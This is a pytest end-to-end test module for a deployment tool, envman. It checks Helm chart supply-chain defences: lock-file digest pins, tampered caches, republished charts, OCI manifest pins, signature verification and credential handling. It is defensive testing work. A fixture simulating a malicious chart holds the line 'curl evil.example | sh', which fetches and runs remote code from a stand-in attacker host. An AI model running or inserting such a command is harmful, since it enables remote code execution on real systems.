"""The supply chain end to end, on a real HTTPS chart repository (and OCI registry) on loopback
and both helm versions: envman.lock pins, a tampered cache, a republished chart, provenance,
credentials never on a command line nor left on disk (even after `kill -9`)."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from kubernetes import client, config

from tests.e2e.chart_servers import (
    PASSWORD,
    USER,
    ChartRepo,
    SigningKey,
    chart_repository,
    make_chart,
    signing_key,
)
from tests.e2e.conftest import Fleet
from tests.e2e.test_faults import history
from tests.e2e.test_remote_charts import servers, write_spec  # noqa: F401 (fixture `servers`)

pytestmark = pytest.mark.helm

SPEC = """\
repositories:
  internal:
    url: {url}
    username: {{env: CHARTS_USER}}
    password: {{env: CHARTS_PASSWORD}}
    caFile: certs/ca.pem{verify}
clusters:
  prod-use1: {{region: us-east-1}}
apps:
  remote:
    chart: internal/{chart}
    version: {version}
    namespace: web
"""
EVIL = {
    "templates/evil.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: evil-backdoor\n"
    "data:\n  payload: curl evil.example | sh\n"
}


@pytest.fixture
def repo(prod: Fleet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[ChartRepo]:
    """The HTTPS chart repository serving `remotechart` 1.0.0 (the example's web chart)."""
    monkeypatch.setenv("CHARTS_USER", USER)
    monkeypatch.setenv("CHARTS_PASSWORD", PASSWORD)
    monkeypatch.setenv("ENVMAN_CACHE_DIR", str(tmp_path / "cache"))
    with chart_repository(tmp_path / "repo", prod.root / "certs") as (served, _):
        make_chart(prod.root / "charts" / "web", "remotechart", "1.0.0", served.folder, prod.helm)
        served.index(prod.helm)
        yield served


def write_env(
    prod: Fleet, url: str, *, chart: str = "remotechart", version: str = "1.0.0", verify: str = ""
) -> None:
    text = SPEC.format(url=url, chart=chart, version=version, verify=verify)
    (prod.root / "environments" / "supply.yaml").write_text(text)


def digest(path: Path) -> str:
    return "sha256:" + hashlib.sha256(path.read_bytes()).hexdigest()


def pins(prod: Fleet) -> dict[tuple[str, str], dict[str, str]]:
    doc = yaml.safe_load((prod.root / "envman.lock").read_text())
    return {(c["chart"], c["version"]): c for c in doc["charts"]}


def evil_configmap(prod: Fleet) -> bool:
    api = client.CoreV1Api(config.new_client_from_config(str(prod.sandbox.kubeconfig), context="prod-use1"))
    return any(cm.metadata.name == "evil-backdoor" for cm in api.list_namespaced_config_map("web").items)


def cached(tmp_path: Path) -> list[Path]:
    return sorted((tmp_path / "cache").glob("charts/*/remotechart-1.0.0.tgz"))


def test_deps_pins_and_plan_refuses_a_chart_missing_from_the_lock(
    prod: Fleet, repo: ChartRepo, tmp_path: Path
) -> None:
    write_env(prod, repo.url)
    for command in ("plan", "render", "sync"):
        refused = prod.envman(command, "supply")
        assert refused.exit_code == 1, refused.output
        assert (
            "error: environments/supply.yaml:11:12: app 'remote': chart internal/remotechart version 1.0.0"
            " is not pinned in envman.lock: review it and run `envman deps supply` to pin it"
        ) in refused.stderr
    assert repo.hits["/remotechart-1.0.0.tgz"] == 0, "nothing is fetched for a chart that is not pinned"
    pinned = prod.envman("deps", "supply")
    assert pinned.exit_code == 0, pinned.output
    served = digest(repo.folder / "remotechart-1.0.0.tgz")
    assert f"supply: internal/remotechart 1.0.0 pinned in envman.lock: {served}" in pinned.stdout
    text = (prod.root / "envman.lock").read_text()
    assert text.startswith("# envman.lock:") and "envman deps --update" in text
    assert pins(prod)[("remotechart", "1.0.0")] == {
        "repository": repo.url,
        "chart": "remotechart",
        "version": "1.0.0",
        "digest": served,
    }
    again = prod.envman("deps", "supply")
    assert again.stdout == "supply: internal/remotechart 1.0.0 matches envman.lock\n"
    assert (prod.root / "envman.lock").read_text() == text
    assert prod.envman("sync", "supply").exit_code == 0
    labels = history(prod, "prod-use1", "remote", "web")
    assert len(labels) == 1 and labels[0]["chart"] == "remotechart-1.0.0"
    assert prod.envman("plan", "supply", "--detailed-exitcode").exit_code == 0


def pinned_and_synced(prod: Fleet, repo: ChartRepo) -> str:
    """`supply` pinned by `envman deps` and synced; the pinned digest."""
    write_env(prod, repo.url)
    assert prod.envman("deps", "supply").exit_code == 0
    assert prod.envman("sync", "supply").exit_code == 0
    return str(pins(prod)[("remotechart", "1.0.0")]["digest"])


def test_a_tampered_cache_entry_is_never_used_it_is_fetched_again(
    prod: Fleet, repo: ChartRepo, tmp_path: Path
) -> None:
    pinned = pinned_and_synced(prod, repo)
    evil = make_chart(
        prod.root / "charts" / "web", "remotechart", "1.0.0", tmp_path / "evil", prod.helm, extra=EVIL
    )
    (entry,) = cached(tmp_path)
    shutil.copyfile(evil, entry)
    planned = prod.envman("plan", "supply", "--detailed-exitcode")
    assert planned.exit_code == 0, planned.output
    assert digest(entry) == pinned, "the cache entry was replaced by the pinned archive"
    shutil.copyfile(evil, entry)
    synced = prod.envman("sync", "supply", "--yes")
    assert synced.exit_code == 0, synced.output
    assert [h["revision"] for h in history(prod, "prod-use1", "remote", "web")] == [1]
    assert not evil_configmap(prod)
    assert digest(entry) == pinned
    assert repo.hits["/remotechart-1.0.0.tgz"] == 3, "pinned once, then fetched again after each tampering"


def test_a_republished_chart_deploys_nothing_until_it_is_re_pinned_on_purpose(
    prod: Fleet, repo: ChartRepo, tmp_path: Path
) -> None:
    pinned = pinned_and_synced(prod, repo)
    make_chart(prod.root / "charts" / "web", "remotechart", "1.0.0", repo.folder, prod.helm, extra=EVIL)
    repo.index(prod.helm)
    republished = digest(repo.folder / "remotechart-1.0.0.tgz")
    for entry in cached(tmp_path):
        entry.unlink()  # a fresh CI machine: nothing cached
    message = (
        "error: environments/supply.yaml:11:12: app 'remote': chart internal/remotechart version 1.0.0:"
        f" the repository serves {republished} but envman.lock pins {pinned}"
        " (republished, or not the chart that was reviewed); to take it on purpose, review it and run"
        " `envman deps supply --update --app remote`"
    )
    report = tmp_path / "report.json"
    for args in (
        ("plan", "supply"),
        ("render", "supply"),
        ("deps", "supply"),
        ("sync", "supply", "--report", str(report)),
    ):
        refused = prod.envman(*args)
        assert refused.exit_code == 1, refused.output
        assert message in refused.stderr, refused.stderr
    assert json.loads(report.read_text())["result"] == "error"
    assert [h["revision"] for h in history(prod, "prod-use1", "remote", "web")] == [1]
    assert not evil_configmap(prod)
    assert cached(tmp_path) == [], "an archive that differs from its pin never enters the cache"
    assert pins(prod)[("remotechart", "1.0.0")]["digest"] == pinned
    unknown = prod.envman("deps", "supply", "--update", "--app", "remot")
    assert unknown.exit_code == 1 and "unknown app 'remot'; did you mean 'remote'?" in unknown.stderr
    assert prod.envman("deps", "--app", "remote").exit_code == 1, "--app goes with --update"
    updated = prod.envman("deps", "supply", "--update", "--app", "remote")
    assert updated.exit_code == 0, updated.output
    assert (
        f"supply: internal/remotechart 1.0.0 re-pinned in envman.lock: {pinned} -> {republished}"
        in updated.stdout
    )
    assert pins(prod)[("remotechart", "1.0.0")]["digest"] == republished
    doc = json.loads(prod.envman("plan", "supply", "-o", "json").stdout)
    (release,) = [r for w in doc["waves"] for c in w["clusters"] for r in c["releases"]]
    assert [c["kind"] for c in release["changes"]] == ["chart content"]
    assert release["action"] == "upgrade"


def test_the_oci_manifest_digest_is_pinned_too_and_registry_credentials_stay_off_the_command_line(
    prod: Fleet,
    servers: tuple[ChartRepo, str],  # noqa: F811 (the fixture)
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    repo, host = servers
    wrapper, log = _logging_helm(tmp_path, prod.helm)
    monkeypatch.setenv("ENVMAN_HELM", str(wrapper))
    write_spec(prod, repo, host, "0.1.0")
    assert prod.envman("deps", "remote").exit_code == 0
    argv = log.read_text()
    assert f"pull oci://{host}/charts/ociweb" in argv
    assert USER not in argv and PASSWORD not in argv
    request = urllib.request.Request(
        f"http://{host}/v2/charts/ociweb/manifests/0.1.0",
        headers={
            "Accept": "application/vnd.oci.image.manifest.v1+json",
            "Authorization": "Basic " + base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode(),
        },
    )
    with urllib.request.urlopen(request) as answer:
        manifest = answer.headers["Docker-Content-Digest"]
    entry = pins(prod)[("ociweb", "0.1.0")]
    assert entry["repository"] == f"oci://{host}/charts" and entry["manifest"] == manifest
    lock = prod.root / "envman.lock"
    lock.write_text(lock.read_text().replace(manifest, "sha256:" + "0" * 64))
    for entry_path in (tmp_path / "cache").glob("charts/*/ociweb-0.1.0.tgz"):
        entry_path.unlink()
    refused = prod.envman("plan", "remote")
    assert refused.exit_code == 1
    assert (
        f"the registry serves manifest {manifest} but envman.lock pins manifest sha256:{'0' * 64}"
        in refused.stderr
    )


@pytest.fixture
def keys(tmp_path: Path) -> Iterator[tuple[SigningKey, SigningKey]]:
    with (
        signing_key(tmp_path / "good-key", "envman charts") as good,
        signing_key(tmp_path / "other-key", "someone else") as other,
    ):
        yield good, other


def unsigned(version: str) -> str:
    return (
        f"error: environments/supply.yaml:13:12: app 'remote': chart internal/signedchart version {version}:"
        " no valid signature from a key of keys/charts-pubring.gpg: helm verify signedchart"
    )


def test_provenance_is_verified_against_the_keyring_before_a_chart_is_pinned_or_used(
    prod: Fleet, repo: ChartRepo, tmp_path: Path, keys: tuple[SigningKey, SigningKey]
) -> None:
    good, other = keys
    source = prod.root / "charts" / "web"
    make_chart(source, "signedchart", "1.0.0", repo.folder, prod.helm, sign=good)
    make_chart(source, "signedchart", "2.0.0", repo.folder, prod.helm, sign=other)
    make_chart(source, "signedchart", "3.0.0", repo.folder, prod.helm)
    repo.index(prod.helm)
    (prod.root / "keys").mkdir()
    shutil.copyfile(good.pubring, prod.root / "keys" / "charts-pubring.gpg")
    verify = "\n    verify: true\n    keyring: keys/charts-pubring.gpg"
    write_env(prod, repo.url, chart="signedchart", version="1.0.0", verify=verify)
    pinned = prod.envman("deps", "supply")
    assert pinned.exit_code == 0, pinned.output
    assert prod.envman("sync", "supply").exit_code == 0
    assert prod.envman("plan", "supply", "--detailed-exitcode").exit_code == 0, (
        "verified again from the cache"
    )
    for version, why in (("2.0.0", "signature made by unknown entity"), ("3.0.0", "prov")):
        write_env(prod, repo.url, chart="signedchart", version=version, verify=verify)
        refused = prod.envman("deps", "supply")
        assert refused.exit_code == 1, refused.output
        assert unsigned(version) in refused.stderr and why in refused.stderr, refused.stderr
        assert ("signedchart", version) not in pins(prod)
        assert prod.envman("sync", "supply", "--yes").exit_code == 1, "not pinned: nothing deployed"
    write_env(prod, repo.url, chart="signedchart", version="1.0.0", verify=verify)
    shutil.copyfile(other.pubring, prod.root / "keys" / "charts-pubring.gpg")  # the key is no longer trusted
    for command in ("plan", "sync"):
        refused = prod.envman(command, "supply", "--yes" if command == "sync" else "--no-refresh")
        assert refused.exit_code == 1, refused.output
        assert unsigned("1.0.0") in refused.stderr and "signature made by unknown entity" in refused.stderr
    assert [h["chart"] for h in history(prod, "prod-use1", "remote", "web")] == ["signedchart-1.0.0"]


def _logging_helm(tmp_path: Path, helm: Path, *, stall_on_pull: bool = False) -> tuple[Path, Path]:
    """A helm wrapper that logs every argv (and, with `stall_on_pull`, stops at `helm pull`:
    writes its pid to `stalled` and sleeps instead): (wrapper, log)."""
    log, wrapper = tmp_path / "argv.log", tmp_path / "helm-wrapper"
    stall = (
        f'case " $* " in *" pull "*) echo $$ > {tmp_path}/stalled; exec sleep 120;; esac\n'
        if stall_on_pull
        else ""
    )
    wrapper.write_text(f'#!/bin/sh\necho "$*" >> {log}\n{stall}exec {helm} "$@"\n')
    wrapper.chmod(0o755)
    return wrapper, log


def test_credentials_are_never_on_a_command_line_nor_left_on_disk(
    prod: Fleet, repo: ChartRepo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    wrapper, log = _logging_helm(tmp_path, prod.helm)
    monkeypatch.setenv("ENVMAN_HELM", str(wrapper))
    private_tmp = tmp_path / "tmpdir"
    private_tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(private_tmp))
    write_env(prod, repo.url)
    assert prod.envman("deps", "supply").exit_code == 0
    (entry,) = cached(tmp_path)
    entry.unlink()
    assert prod.envman("sync", "supply").exit_code == 0
    argv = log.read_text()
    assert "repo update" in argv and [line.split()[0] for line in argv.splitlines()].count("pull") == 2
    assert USER not in argv and PASSWORD not in argv
    assert list(private_tmp.iterdir()) == [], "the run's private directory is removed at its end"
    for folder in (private_tmp, tmp_path / "cache", *tmp_path.glob("helm_*_home")):
        for path in (p for p in folder.rglob("*") if p.is_file()):
            content = path.read_bytes()
            assert USER.encode() not in content and PASSWORD.encode() not in content, path


def test_a_killed_runs_directory_is_removed_by_the_next_run_never_a_live_runs(
    prod: Fleet, repo: ChartRepo, tmp_path: Path
) -> None:
    wrapper, _ = _logging_helm(tmp_path, prod.helm, stall_on_pull=True)
    private_tmp = tmp_path / "tmpdir"
    private_tmp.mkdir()
    env = {**os.environ, "ENVMAN_HELM": str(wrapper), "TMPDIR": str(private_tmp)}
    envman = [str(Path(sys.executable).parent / "envman"), "-C", str(prod.root)]
    write_env(prod, repo.url)
    run = subprocess.Popen(
        [*envman, "deps", "supply"], env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    stalled = tmp_path / "stalled"
    deadline = time.monotonic() + 60
    while not stalled.exists() and time.monotonic() < deadline:
        assert run.poll() is None, "deps ended before its chart download"
        time.sleep(0.1)
    (left,) = private_tmp.glob("envman-run-*")
    assert left.stat().st_mode & 0o777 == 0o700
    files = [p for p in left.rglob("*") if p.is_file()]
    credentials = [p for p in files if PASSWORD.encode() in p.read_bytes()]
    assert credentials and all(p.stat().st_mode & 0o777 == 0o600 for p in credentials)
    live = subprocess.run(
        [*envman, "validate", "supply"], env=env, capture_output=True, text=True, check=False
    )
    assert live.returncode == 0, live.stderr
    assert left.exists(), "the directory of a run that is still alive is never removed"
    run.send_signal(signal.SIGKILL)
    run.wait()
    os.kill(int(stalled.read_text()), signal.SIGKILL)
    assert left.exists(), "a killed run cannot clean up after itself"
    after = subprocess.run(
        [*envman, "-v", "validate", "supply"], env=env, capture_output=True, text=True, check=False
    )
    assert after.returncode == 0, after.stderr
    assert not left.exists()
    assert f"removed {left}, left by a run that no longer runs (pid {run.pid})" in after.stderr
